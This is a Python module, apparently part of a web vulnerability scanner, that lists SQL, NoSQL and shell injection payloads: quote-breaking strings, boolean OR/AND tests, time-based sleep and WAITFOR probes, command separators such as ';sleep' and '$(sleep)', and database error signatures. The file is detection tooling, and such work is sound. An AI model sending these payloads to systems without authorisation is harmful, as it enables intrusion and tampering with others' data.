"""Injection payloads, chosen per parameter type.

String parameters get quote-breaking SQL, NoSQL operators and shell
metacharacters; integer parameters get numeric SQL without quotes.
Time-based templates take ``{d}`` (seconds, may be fractional) so a probe
can be repeated with different delays. OR-based boolean payloads, which
would match every row of an UPDATE or DELETE, are used on GET only.
"""

from __future__ import annotations

SQL_ERROR_PAYLOADS = (("'", "''"), ('"', '""'))
"""(payload, balanced control): the control must not raise the error the payload raises."""

SQL_ERROR_SIGNATURES = (
    "you have an error in your sql syntax", "unclosed quotation mark",
    "quoted string not properly terminated", "unterminated quoted string",
    "syntax error at or near", "sqlstate[", "sqlite3.operationalerror", "operationalerror",
    "unrecognized token", "sqlite_error", "pg::syntaxerror", "psycopg2.errors", "psycopg.errors",
    "mysql_fetch", "mysqlsyntaxerrorexception", "microsoft ole db provider for sql server",
    "incorrect syntax near", "ora-00933", "ora-01756", "sqlexception", "sql syntax",
)
"""Lower-case fragments of database errors: MySQL, PostgreSQL, SQLite, SQL Server, Oracle."""

# (true, false, second true, second false)
SQL_BOOLEAN_READ = (
    ("' OR 1=1-- ", "' OR 1=2-- ", "' OR 2>1-- ", "' OR 2<1-- "),
    ("' OR '1'='1", "' OR '1'='2", "' OR 'b'>'a", "' OR 'b'<'a"),
)
SQL_BOOLEAN_WRITE = (
    ("' AND '1'='1", "' AND '1'='2", "' AND 'b'>'a", "' AND 'b'<'a"),
)
SQL_BOOLEAN_NUMERIC = (
    (" OR 1=1", " OR 1=2", " OR 2>1", " OR 2<1"),
)

SQL_TIME_STRING = (
    "'||(SELECT sleep({d}))||'",
    "%' AND (SELECT sleep({d}))=0 AND '%'='",
    "' AND (SELECT SLEEP({d}))=0 AND '1'='1",
    "' AND SLEEP({d})-- ",
    "'||pg_sleep({d})||'",
    "';SELECT pg_sleep({d})-- ",
    "';WAITFOR DELAY '{hms}'-- ",
)
"""SQLite with a sleep() function, MySQL, PostgreSQL and SQL Server forms."""

SQL_TIME_NUMERIC = (
    " AND (SELECT sleep({d}))=0",
    " AND SLEEP({d})",
    " AND 1=(SELECT 1 FROM pg_sleep({d}))",
    ";WAITFOR DELAY '{hms}'-- ",
)

COMMAND_TIME = (";sleep {d}", "|sleep {d}", "&&sleep {d}", "$(sleep {d})", "`sleep {d}`",
                "\nsleep {d}", "&sleep {d}&")
"""POSIX shell forms; each starts a new command after the parameter's value."""

NOSQL_TRUE_OPERATORS = ({"$ne": "{marker}"}, {"$gt": ""})
NOSQL_FALSE_OPERATOR = {"$eq": "{marker}"}


def fill_delay(template: str, delay: float) -> str:
    """Put ``delay`` seconds into a template as ``{d}`` (seconds) or ``{hms}`` (hh:mm:ss.fff)."""
    whole = int(delay)
    millis = round((delay - whole) * 1000)
    hms = f"00:00:{whole:02d}.{millis:03d}"
    return template.replace("{d}", f"{delay:g}").replace("{hms}", hms)
